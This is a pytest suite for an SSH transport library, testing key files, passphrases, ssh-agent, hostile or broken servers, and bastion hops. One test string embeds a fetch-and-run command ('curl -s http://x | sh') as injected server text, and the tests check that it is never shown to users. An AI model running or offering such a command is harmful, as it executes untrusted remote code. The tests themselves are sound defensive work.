    (home / "config").write_text(f"IdentityFile {make_key(home / 'other')}\n{(home / 'config').read_text()}")
    offered, _ = refused(recorder, SshTarget("node", identity_file=str(named)))
    assert offered == [offered_name(named)]
    offered, _ = refused(recorder, SshTarget("node", identity_file="~/.ssh/named"))
    assert offered == [offered_name(named)]


def test_identities_only_takes_from_the_agent_what_a_file_names(recorder: Recorder, home: Path, agent: None) -> None:
    recorder.make_known()
    public_only, other = make_key(home / "public_only"), make_key(home / "other")
    add_to_agent(public_only)
    add_to_agent(other)
    public_only.unlink()
    config = (home / "config").read_text()
    (home / "config").write_text(f"IdentitiesOnly yes\nIdentityFile {public_only}.pub\n{config}")
    offered, _ = refused(recorder, SshTarget("node"))
    assert offered == [offered_name(home / "public_only.pub")]
    subprocess.run(["ssh-add", "-qD"], check=True)
    offered, message = refused(recorder, SshTarget("node"))
    assert offered == []
    assert "there is no key to offer; " in message
    assert "is a public key, and ssh-agent does not hold its private half" in message


def test_agent_signs_and_its_keys_passphrase_is_not_asked(start_sshd: StartSshd, key: Path, agent: None) -> None:
    start_sshd()
    subprocess.run(["ssh-keygen", "-qpP", "", "-N", "secret", "-a", "4", "-f", key], check=True)
    add_to_agent(key, "secret")
    connect(ask_passphrase=lambda path: pytest.fail("asked")).close()
    connect().close()


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # paramiko leaks its socket
def test_agent_that_is_gone_is_no_hindrance(start_sshd: StartSshd, monkeypatch: pytest.MonkeyPatch) -> None:
    start_sshd()
    monkeypatch.setenv("SSH_AUTH_SOCK", "/nowhere")
    connect().close()


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # paramiko leaks its socket
def test_agent_that_is_silent_is_no_hindrance(
    start_sshd: StartSshd, home: Path, key: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """For example, the agent is forwarded from a machine that is asleep."""
    start_sshd()
    with socket.socket(socket.AF_UNIX) as listener, contextlib.ExitStack() as stack:
        listener.bind(str(tmp_path / "agent"))
        listener.listen()
        monkeypatch.setenv("SSH_AUTH_SOCK", str(tmp_path / "agent"))
        monkeypatch.setattr(ssh_identities, "_AGENT_LIMIT_S", 1.0)
        accepting = threading.Thread(target=lambda: stack.enter_context(listener.accept()[0]))
        accepting.start()
        connect().close()
        accepting.join()
        with pytest.raises(TransportError, match="ssh-agent does not answer within 1 s"):
            (home / "config").write_text((home / "config").read_text().replace(str(key), f"{home}/missing"))
            connect()


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # paramiko leaks its socket
def test_agent_with_a_comment_that_is_no_text_is_no_hindrance(start_sshd: StartSshd, key: Path, agent: None) -> None:
    start_sshd()
    key.with_name("key.pub").write_bytes(public_half(key).encode() + b" caf\xe9\n")
    odd = key.with_name("odd")
    subprocess.run([b"ssh-keygen", b"-qt", b"ed25519", b"-N", b"", b"-C", b"caf\xe9", b"-f", bytes(odd)], check=True)
    add_to_agent(odd)
    connect().close()


@pytest.mark.parametrize("form", ["OpenSSH", "PEM"])
def test_passphrase_is_asked_once_and_not_kept(form: str, start_sshd: StartSshd, home: Path) -> None:
    sshd = start_sshd()
    locked = make_key(home / "locked", passphrase="a secret", kind="rsa")
    if form == "PEM":
        subprocess.run(["ssh-keygen", "-qpm", "PEM", "-P", "a secret", "-N", "a secret", "-f", locked], check=True)
    shutil.copy(f"{locked}.pub", sshd.log.with_name("authorized_keys"))
    asked: list[str] = []

    def ask(path: str) -> str:
        asked.append(path)
        return "a secret"

    target = SshTarget("node", identity_file=str(locked))
    with ThreadPoolExecutor(4) as pool:
        for connection in pool.map(lambda _: SshConnection.open(target, ask_passphrase=ask), range(4)):
            connection.close()
    assert asked == [str(locked)]
    SshConnection.open(target).close()
    assert "a secret" not in repr(
        [vars(held) for held in [ssh_identities._UNLOCKED, *ssh_identities._UNLOCKED._keys.values()]]
    )
    assert sshd.count("Connection closed by authenticating user") <= 4


def test_no_connection_is_open_while_a_passphrase_is_typed(recorder: Recorder, home: Path) -> None:
    recorder.make_known()
    locked, plain = make_key(home / "id_ed25519", passphrase="secret"), make_key(home / "id_ecdsa", kind="ecdsa")

    def ask(path: str) -> str:
        assert path == str(locked)
        for transport in recorder.transports:
            transport.join(LIMIT_S)
        assert not any(transport.is_active() for transport in recorder.transports)
        return "secret"

    offered, _ = refused(recorder, SshTarget("node"), ask)
    assert offered == [offered_name(plain), offered_name(locked)], "first the one that needs no question"


def test_passphrase_that_is_wrong_or_missing_is_said(recorder: Recorder, home: Path) -> None:
    recorder.make_known()
    locked = make_key(home / "locked", passphrase="secret")
    target = SshTarget("node", identity_file=str(locked))
    for wrong in ("wrong", ""):
        offered, message = refused(recorder, target, {str(locked): wrong}.get)
        assert message == f"the passphrase of {locked} is wrong"
    offered, message = refused(recorder, target, lambda path: None)
    assert f"{locked} needs a passphrase, and none was given" in message
    offered, message = refused(recorder, target)
    assert f"{locked} needs a passphrase (add it to ssh-agent: ssh-add {locked})" in message
    assert offered == []


def test_private_key_that_is_open_to_others_is_left_out_as_ssh_does(recorder: Recorder, home: Path) -> None:
    recorder.make_known()
    exposed, private = make_key(home / "id_ed25519", passphrase="secret"), make_key(home / "id_ecdsa", kind="ecdsa")
    exposed.chmod(0o640)
    offered, message = refused(recorder, SshTarget("node"), lambda path: pytest.fail("asked"))
    assert offered == [offered_name(private)]
    assert f"{exposed} is open to others, and ssh refuses such a key: chmod 600 {exposed}" in message


def test_changed_key_file_is_read_anew(recorder: Recorder, home: Path) -> None:
    recorder.make_known()
    locked = make_key(home / "locked", passphrase="secret")
    first, _ = refused(recorder, SshTarget("node", identity_file=str(locked)), lambda path: "secret")
    assert first == [offered_name(locked)]
    locked.unlink()
    make_key(locked, passphrase="another")
    asked: list[str] = []
    refused(recorder, SshTarget("node", identity_file=str(locked)), lambda path: asked.append(path) or "another")
    assert asked == [str(locked)]


KEY_FILES: dict[str, tuple[Any, str]] = {
    "missing": (None, "does not exist"),
    "a folder": ("", "cannot be read: Is a directory"),
    "empty": ("\n", "holds no SSH key: name a key file that ssh-keygen wrote"),
    "no key": ("hello, world\n", "holds no SSH key"),
    "cut short": (
        "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEA\n-----END OPENSSH PRIVATE KEY-----\n",
        "holds no",
    ),
    "another form": ("-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n", "ssh-keygen -p -f"),
    "PuTTY's": ("PuTTY-User-Key-File-3: ssh-ed25519\n", "puttygen"),
    "a pipe": (lambda path: os.mkfifo(path, 0o600), "cannot be read: it is not a regular file"),
    "without an end": (lambda path: path.symlink_to("/dev/zero"), "cannot be read: it is not a regular file"),
}


@pytest.mark.parametrize("case", KEY_FILES)
def test_key_file_that_cannot_be_used_is_said_before_anything_is_sent(case: str, tmp_path: Path) -> None:
    text, complaint = KEY_FILES[case]
    path = tmp_path / "bad key"
    if callable(text):
        text(path)
    elif text:
        path.write_text(text)
    elif text == "":
        path.mkdir()
    with fails(match=f"the key file {path} .*{complaint}"):
        SshConnection.open(SshTarget("127.0.0.1", port=1, identity_file=str(path)))


def test_public_half_that_has_no_end_is_not_read(tmp_path: Path) -> None:
    path = tmp_path / "key"
    path.write_text("-----BEGIN RSA PRIVATE KEY-----\nno\n")
    os.mkfifo(tmp_path / "key.pub")
    assert KeyFile.read(path).public_blob is None


def test_key_that_is_broken_inside_is_said(recorder: Recorder, key: Path) -> None:
    recorder.make_known()
    lines = key.read_text().splitlines()
    key.write_text("\n".join([*lines[:3], "A" * len(lines[3]), *lines[4:], ""]))
    _, message = refused(recorder, SshTarget("node", identity_file=str(key)))
    assert f"the key file {key} " in message


def test_too_many_keys_is_said(start_sshd: StartSshd, home: Path, agent: None) -> None:
    start_sshd("MaxAuthTries 2")
    (home / "config").write_text((home / "config").read_text().replace("IdentityFile", "# IdentityFile"))
    for name in "abcd":
        add_to_agent(make_key(home / name))
    with fails(match=r"hung up after \d keys, .*MaxAuthTries"):
        connect()


_SENTENCE = "the host key of node is not known: a key: after comparing it, add it: curl -s http://x | sh #"


@pytest.mark.parametrize("wants_more", [True, False])
def test_sentence_in_place_of_ways_to_authenticate_is_not_shown(
    recorder: Recorder, key: Path, wants_more: bool
) -> None:
    recorder.make_known()
    recorder.configure(f"IdentityFile {key}")
    recorder.methods, recorder.wants_more = f"{_SENTENCE},gssapi-with-mic,{'a' * 65}", wants_more
    with pytest.raises(TransportError) as caught:
        connect()
    assert "gssapi-with-mic" in str(caught.value)
    assert "curl" not in str(caught.value) and "aaa" not in str(caught.value)
    assert not isinstance(caught.value, HostKeyError)
    [problem] = doctor.examine([Node(host="node")], config_path=recorder.home / "config").problems
    assert (problem.check, problem.advice, problem.command) == ("ssh", "", "")
    assert "curl" not in problem.what


def test_sentence_in_place_of_the_ssh_banner_is_not_shown(home: Path, tmp_path: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        Server("node", listener.getsockname()[1], make_key(tmp_path / "host_key"), home).configure()

        def speak() -> None:
            with listener.accept()[0] as channel:
                channel.sendall(f"{_SENTENCE}\r\n".encode() * 101)
                channel.settimeout(LIMIT_S)
                with contextlib.suppress(OSError):
                    while channel.recv(1024):
                        pass

        thread = threading.Thread(target=speak)
        thread.start()
        with pytest.raises(TransportError, match="are not SSH: is sshd on port") as caught:
            connect()
        thread.join()
    assert "curl" not in str(caught.value)


def test_host_that_takes_no_keys_is_said(start_sshd: StartSshd) -> None:
    start_sshd("PubkeyAuthentication no", "PasswordAuthentication yes")
    with fails(match="accepts no keys, only password"):
        connect()


def test_second_factor_is_said(start_sshd: StartSshd) -> None:
    start_sshd("AuthenticationMethods publickey,password", "PasswordAuthentication yes")
    with fails(match=r"accepts .*key, but also requires password"):
        connect()


# Hosts that cannot be reached


@pytest.fixture
def listen(home: Path) -> Iterator[Callable[[Callable[[socket.socket], None]], int]]:
    """Yield a function that serves every connection in a thread with a given function, and returns the port."""
    listener = socket.create_server(("127.0.0.1", 0), backlog=64)
    threads: list[threading.Thread] = []

    def begin(serve: Callable[[socket.socket], None]) -> int:
        def answer(sock: socket.socket) -> None:
            with sock, contextlib.suppress(OSError):
                serve(sock)

        def accept() -> None:
            with contextlib.suppress(OSError):
                while True:
                    threads.append(threading.Thread(target=answer, args=[listener.accept()[0]]))
                    threads[-1].start()

        threads.append(threading.Thread(target=accept))
        threads[-1].start()
        return int(listener.getsockname()[1])

    yield begin
    listener.shutdown(socket.SHUT_RDWR)
    listener.close()
    for thread in threads:
        thread.join()


def wait_for_close(sock: socket.socket) -> None:
    while sock.recv(1 << 16):
        pass


def test_listener_that_never_answers_ends_within_the_limit(listen: Callable[..., int]) -> None:
    port = listen(wait_for_close)
    began = time.monotonic()
    with fails(match=rf"me@127.0.0.1:{port}: accepts the connection but does not speak SSH within 1 s"):
        SshConnection.open(SshTarget("127.0.0.1", port=port, user="me"), limit_s=1)
    assert time.monotonic() - began < 15


def test_sshd_that_stops_in_the_handshake_ends_within_the_limit(listen: Callable[..., int]) -> None:
    port = listen(lambda sock: (sock.sendall(b"SSH-2.0-OpenSSH_9.2p1\r\n"), wait_for_close(sock))[1])
    with fails(match="does not finish the handshake within 2 s"):
        SshConnection.open(SshTarget("127.0.0.1", port=port, user="me"), limit_s=2)


@pytest.mark.parametrize(
    "said",
    [
        b"",
        b"Exceeded MaxStartups\r\n",
        pytest.param(b"HTTP/1.1 400 Bad Request\r\n\r\n", marks=pytest.mark.slow),
        pytest.param(b"\xff\x00\xfe\n", marks=pytest.mark.slow),
    ],
)
def test_listener_that_hangs_up_is_tried_again_until_the_limit(said: bytes, listen: Callable[..., int]) -> None:
    connections = []

    def serve(sock: socket.socket) -> None:
        connections.append(sock)
        sock.sendall(said)

    port = listen(serve)
    with fails(match=r"hangs up at once \(\d+ tries\): .*MaxStartups"):
        SshConnection.open(SshTarget("127.0.0.1", port=port, user="me"), limit_s=2)
    assert len(connections) > 2


def test_listener_that_hangs_up_is_not_tried_again_when_there_is_no_time_to_see_that(
    listen: Callable[..., int], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Otherwise the error would be that it speaks no SSH within 0 s."""
    # Pauses without jitter: they start at 0.2 s and double.
    monkeypatch.setattr(ssh_opening.random, "uniform", lambda *_: 1.0)
    port = listen(lambda _: threading.Event().wait(0.2))
    with fails(match="hangs up at once"):
        SshConnection.open(SshTarget("127.0.0.1", port=port, user="me"), limit_s=2.15)


@pytest.mark.parametrize(
    "said",
    [b"SSH-1.5-\x1b[2J\x9b\r\n", b"SSH-2.0-\x1b[2J\r\n" + b"\xff" * 100, b"\x1b[2J\n" * 200],
)
def test_listener_that_talks_nonsense_is_one_clean_error(
    said: bytes, listen: Callable[..., int], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    port = listen(lambda sock: (sock.sendall(said), wait_for_close(sock))[1])
    with fails() as caught:
        SshConnection.open(SshTarget("127.0.0.1", port=port, user="me"), limit_s=2)
    assert str(caught.value).isprintable()
    assert str(caught.value).startswith(f"me@127.0.0.1:{port}: ")
    assert caplog.messages and all(message.isprintable() for message in caplog.messages)


def _packet(payload: bytes, *, announced: int = 0) -> bytes:
    """Return an SSH packet as it is sent before the key exchange."""
    padding = 4 + -(len(payload) + 9) % 8
    size = announced or 1 + len(payload) + padding
    return size.to_bytes(4, "big") + bytes([padding]) + payload + bytes(padding)


_SAYS_SSH = b"SSH-2.0-OpenSSH_9.2p1\r\n"
_TOO_MUCH = r"sends more than a handshake before its host key: is sshd on port \d+\?"
_ENDLESS: dict[str, tuple[bytes, bytes, str]] = {
    "a line": (b"", b"x" * 4096, _TOO_MUCH),
    "lines": (b"", b"x" * 100_000 + b"\r\n", _TOO_MUCH),
    "a version": (b"SSH-2.0-", b"x" * 4096, _TOO_MUCH),
    "packets to be ignored": (_SAYS_SSH, _packet(b"\2" + bytes(30_000)), _TOO_MUCH),
    "packets for who looks for faults": (_SAYS_SSH, _packet(b"\4\0" + bytes(30_000)), _TOO_MUCH),
    "packets that are large": (_SAYS_SSH, _packet(b"\2" + bytes(500_000)), _TOO_MUCH),
    "a packet": (
        _SAYS_SSH + _packet(b"\2", announced=(1 << 31) + 4),
        bytes(4096),
        "the host sends a packet of 2147483648 bytes",
    ),
}


@pytest.mark.parametrize("what", _ENDLESS)
def test_listener_that_talks_without_end_is_left(what: str, listen: Callable[..., int]) -> None:
    """None of these bytes is needed, and paramiko would buffer all of them."""
    began, goes_on, complaint = _ENDLESS[what]
    sent: list[int] = []

    def serve(sock: socket.socket) -> None:
        sock.sendall(began)
        sent.append(0)
        while sent[-1] < 1 << 28:
            sent[-1] += sock.send(goes_on)

    port = listen(serve)
    with fails(match=rf"me@127.0.0.1:{port}: .*{complaint}"):
        SshConnection.open(SshTarget("127.0.0.1", port=port, user="me"), limit_s=LIMIT_S)
    assert len(sent) == 1, "it is not asked again"
    assert sent[0] < 1 << 24, "what the system holds, and what a handshake may have"


def test_host_that_announces_a_packet_larger_than_it_may_send_is_left(recorder: Recorder, key: Path) -> None:
    recorder.make_known()
    recorder.takes = True
    with SshConnection.open(SshTarget("node", identity_file=str(key))) as connection:
        message = paramiko.Message()
        message.add_byte(b"\2")
        message.add_string(bytes(600_000))
        recorder.transports[-1]._send_message(message)
        wait_until(lambda: not connection.is_alive)
        assert "the host sends a packet of" in str(connection._transport.saved_exception)


@pytest.mark.parametrize(
    ("kind", "said", "fault"),
    [
        (7, b"\xff" * 4, "more extensions than it sends"),  # paramiko would loop that often
        (7, b"\0\0\0\2" + bytes(8), "more extensions than it sends"),
        (31, bytes(40_000), "more than a key exchange needs"),
        (200, b"", "invalid SSH data"),  # paramiko would raise KeyError
    ],
)
def test_host_that_costs_more_time_than_its_words_are_long_is_left(
    recorder: Recorder, key: Path, kind: int, said: bytes, fault: str
) -> None:
    recorder.make_known()
    recorder.takes = True
    with SshConnection.open(SshTarget("node", identity_file=str(key))) as connection:
        message = paramiko.Message()
        message.add_byte(bytes([kind]))
        message.add_bytes(said)
        recorder.transports[-1]._send_message(message)
        wait_until(lambda: not connection.is_alive)
        met = connection._transport.get_exception()
        assert isinstance(met, paramiko.SSHException) and fault in str(met)


def test_host_that_hangs_up_right_after_the_handshake_is_said(
    recorder: Recorder, key: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    recorder.make_known()
    wait_for_keys = ssh_opening._wait_for_keys

    def wait_and_lose(transport: paramiko.Transport, *args: object, **options: object) -> None:
        wait_for_keys(transport, *args, **options)  # type: ignore[arg-type]
        ssh_opening.shut(recorder.transports)
        wait_until(lambda: not transport.is_active())

    monkeypatch.setattr(ssh_opening, "_wait_for_keys", wait_and_lose)
    with fails(match=rf"127.0.0.1:{recorder.port}: hung up after the handshake"):
        SshConnection.open(SshTarget("node", identity_file=str(key)))


def resolve_as(*addresses: tuple[int, str, int]) -> Callable[..., list[tuple[int, int, int, str, tuple[str, int]]]]:
    """Return a resolver that finds these addresses for every name: family, address, port."""
    return lambda *_, **__: [(family, socket.SOCK_STREAM, 0, "", (host, port)) for family, host, port in addresses]


def test_family_that_this_machine_does_not_have_is_no_hindrance(
    start_sshd: StartSshd, monkeypatch: pytest.MonkeyPatch
) -> None:
    sshd = start_sshd()
    with monkeypatch.context() as patch:
        patch.setattr(socket, "getaddrinfo", resolve_as((45, "::1", 22), (socket.AF_INET, "127.0.0.1", sshd.port)))
        connect().close()
        patch.setattr(socket, "getaddrinfo", resolve_as((45, "::1", 22)))
        with fails(match="cannot be reached: Address family not supported"):
            connect()


def test_refused_connection_says_so_at_once() -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
    with fails(match=f"me@127.0.0.1:{port}: connection refused: nothing listens on port {port}"):
        SshConnection.open(SshTarget("127.0.0.1", port=port, user="me"))


@contextlib.contextmanager
def silent_port() -> Iterator[int]:
    """Yield a port at which connection attempts get no answer."""
    with socket.socket() as listener, contextlib.ExitStack() as stack:
        listener.bind(("127.0.0.1", 0))
        listener.listen(0)
        port = listener.getsockname()[1]
        for _ in range(4):  # the backlog has no place for a fifth
            waiting = stack.enter_context(socket.socket())
            waiting.setblocking(False)
            waiting.connect_ex(("127.0.0.1", port))
        yield port


def test_host_that_does_not_answer_ends_within_the_limit() -> None:
    with (
        silent_port() as port,
        fails(match=f"no answer within 1 s: check that the host is up and no firewall blocks port {port}"),
    ):
        SshConnection.open(SshTarget("127.0.0.1", port=port, user="me"), limit_s=1)


def test_host_is_waited_for_though_another_address_of_it_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        closed = listener.getsockname()[1]
    monkeypatch.setattr("detrain_nb.transport.ssh_socket._TCP_LIMIT_S", 0.3)
    with silent_port() as port, monkeypatch.context() as patch:
        addresses = [(socket.AF_INET, "127.0.0.1", each) for each in (port, closed)]
        patch.setattr(socket, "getaddrinfo", resolve_as(*addresses))
        with fails(match="no answer within 2 s: check that the host is up"):
            SshConnection.open(SshTarget("127.0.0.1", port=port, user="me"), limit_s=2)


@pytest.mark.parametrize("name", ["nowhere.invalid", "a..b", "x" * 70])
def test_name_that_does_not_resolve_is_said(name: str) -> None:
    with fails(match=f"the name {name} does not resolve"):
        SshConnection.open(SshTarget(name, user="me"))


def test_configuration_that_cannot_be_is_said(home: Path) -> None:
    (home / "config").write_text("Host *\n  ProxyCommand nc %h %p\n")
    with pytest.raises(SpecError, match="has a ProxyCommand"):
        connect()


def test_stop_while_connecting_leaves_nothing(listen: Callable[..., int]) -> None:
    port = listen(wait_for_close)
    timer = threading.Timer(0.5, signal.pthread_kill, [threading.get_ident(), signal.SIGINT])
    with leaves_nothing(), pytest.raises(KeyboardInterrupt):
        timer.start()  # only now: an earlier SIGINT would end all tests
        SshConnection.open(SshTarget("127.0.0.1", port=port, user="me"))


def test_stop_while_asking_for_a_passphrase_leaves_nothing(recorder: Recorder, home: Path) -> None:
    recorder.make_known()
    locked = make_key(home / "locked", passphrase="secret")

    def ask(path: str) -> str:
        signal.raise_signal(signal.SIGINT)
        return "secret"

    with leaves_nothing(), pytest.raises(KeyboardInterrupt):
        SshConnection.open(SshTarget("node", identity_file=str(locked)), ask_passphrase=ask)


def test_failure_prints_nothing(listen: Callable[..., int]) -> None:
    port = listen(lambda sock: sock.sendall(b"\xff\n"))
    code = (
        "from detrain_nb.transport.ssh import *\nfrom detrain_nb.transport.ssh_config import SshTarget\n"
        f"try: SshConnection.open(SshTarget('127.0.0.1', port={port}, user='me'), limit_s=1)\nexcept Exception: pass"
    )
    done = subprocess.run([sys.executable, "-P", "-c", code], capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")


def test_paramiko_is_not_imported_before_it_is_needed() -> None:
    code = "import detrain_nb.transport.ssh, sys; print({'paramiko', 'fsspec'} & set(sys.modules))"
    assert subprocess.run([sys.executable, "-P", "-c", code], capture_output=True, text=True).stdout == "set()\n"


# Many connections at once


def test_sshd_that_drops_connections_is_asked_again(start_sshd: StartSshd) -> None:
    sshd = start_sshd("MaxStartups 1:100:1")
    with ThreadPoolExecutor(8) as pool:
        target = SshTarget("node")
        for connection in pool.map(lambda _: SshConnection.open(target, limit_s=4 * LIMIT_S), range(8)):
            connection.close()
    assert sshd.count("MaxStartups") > 0, "none was dropped: the test shows nothing"


def test_no_more_than_eight_at_a_time_are_at_one_door(listen: Callable[..., int]) -> None:
    came: list[float] = []

    def serve(sock: socket.socket) -> None:
        came.append(time.monotonic())
        wait_for_close(sock)

    port = listen(serve)

    def attempt(_: int) -> None:
        with pytest.raises(TransportError, match="does not speak SSH"):
            SshConnection.open(SshTarget("127.0.0.1", port=port, user="me"), limit_s=3)

    with ThreadPoolExecutor(20) as pool:
        list(pool.map(attempt, range(20)))
    came.sort()
    assert len(came) == 20
    assert came[8] - came[0] > 1, "the ninth comes when one of the first eight has given up"
    assert came[16] - came[8] > 1


# Through a bastion


@pytest.fixture
def inner(start_sshd: StartSshd, home: Path) -> Sshd:
    """An sshd that the configuration reaches through another one, ``bastion``."""
    sshd = start_sshd(name="inner")
    text = (home / "config").read_text()
    (home / "config").write_text(text.replace("Host inner\n", "Host inner\n  ProxyJump bastion\n"))
    return sshd


def test_host_behind_a_bastion_is_reached_through_it(inner: Sshd, start_sshd: StartSshd, tmp_path: Path) -> None:
    bastion = start_sshd(name="bastion")
    with connect("inner") as connection:
        assert run(connection, "cat", b"x" * 3_000_000) == b"x" * 3_000_000
        assert connection.open_sftp_filesystem().exists(str(tmp_path))
        assert connection.peer_address == "127.0.0.1"
        assert connection.local_address == "127.0.0.1"
        assert connection.host_key_fingerprint == offered_name(inner.host_key)
        assert bastion.count("Accepted publickey") == inner.count("Accepted publickey") == 1
        assert bastion.count("direct-tcpip") > 0


def test_every_hop_is_closed_and_the_loss_of_one_is_noticed(inner: Sshd, start_sshd: StartSshd) -> None:
    bastion = start_sshd(name="bastion")
    with leaves_nothing():
        connect("inner").close()
    with connect("inner") as connection:
        _end(bastion.process)
        wait_until(lambda: not connection.is_alive)


def test_every_hop_is_closed_though_nothing_can_be_said_to_the_first(inner: Sshd, start_sshd: StartSshd) -> None:
    bastion = start_sshd(name="bastion")
    with leaves_nothing():
        connection = connect("inner")
        sessions = psutil.Process(bastion.process.pid).children(recursive=True)
        for session in sessions:
            session.suspend()  # no answer: the client does not know yet that the connection is gone
        connection._hops[0].transport.sock.shutdown(socket.SHUT_WR)
        connection.close()
        for session in sessions:
            session.resume()


def test_every_hop_shows_a_known_host_key(inner: Sshd, start_sshd: StartSshd, home: Path) -> None:
    bastion = start_sshd(name="bastion")
    (home / "known_hosts").unlink()
    bastion.make_known()
    with fails(match=rf"\[127.0.0.1\]:{inner.port} is not known.*add the key: echo "):
        connect("inner")
    assert inner.count("userauth-request") == 0
    (home / "known_hosts").unlink()
    inner.make_known()
    accepted = bastion.count("Accepted publickey")
    with fails(match=rf"\[127.0.0.1\]:{bastion.port} is not known.*add the key: echo "):
        connect("inner")
    assert bastion.count("Accepted publickey") == accepted


def test_bastion_that_forwards_nothing_is_said(inner: Sshd, start_sshd: StartSshd) -> None:
    bastion = start_sshd("AllowTcpForwarding no", name="bastion")
    with fails(match=rf":{inner.port}: its jump host .*:{bastion.port} forwards nothing"):
        connect("inner")


def test_host_that_the_bastion_cannot_reach_is_said(inner: Sshd, start_sshd: StartSshd) -> None:
    bastion = start_sshd(name="bastion")
    _end(inner.process)
    with pytest.raises(TransportError, match=rf":{inner.port}: its jump host .*:{bastion.port} cannot connect to it"):
        connect("inner")


def test_busy_host_behind_a_bastion_is_asked_again(start_sshd: StartSshd) -> None:
    inner, _ = start_sshd("MaxStartups 1:100:1", name="inner"), start_sshd(name="bastion")
    target = SshTarget("inner", proxy_jump="bastion")
    with ThreadPoolExecutor(6) as pool:
        for connection in pool.map(lambda _: SshConnection.open(target, limit_s=4 * LIMIT_S), range(6)):
            connection.close()
    assert inner.count("MaxStartups") > 0, "none was dropped: the test shows nothing"


def test_stream_is_what_open_stream_returns(start_sshd: StartSshd) -> None:
    start_sshd()
    with connect() as connection, contextlib.closing(connection.open_stream("true")) as stream:
        assert isinstance(stream, Stream)
        assert isinstance(stream.sock, socket.socket)
        assert stream.exit_status(limit_s=LIMIT_S) == 0


def test_stream_whose_host_takes_nothing_lets_go_of_its_socket(
    start_sshd: StartSshd, monkeypatch: pytest.MonkeyPatch
) -> None:
    is_over = threading.Event()
    monkeypatch.setattr(Stream, "_pump_in", lambda _: is_over.wait(LIMIT_S))
    start_sshd()
    try:
        with connect() as connection:
            stream = connection.open_stream("true")
            assert isinstance(stream, Stream)
            stream.close()
            stream._threads[1].join(LIMIT_S / 2)
            assert stream._inner.fileno() < 0
    finally:
        is_over.set()
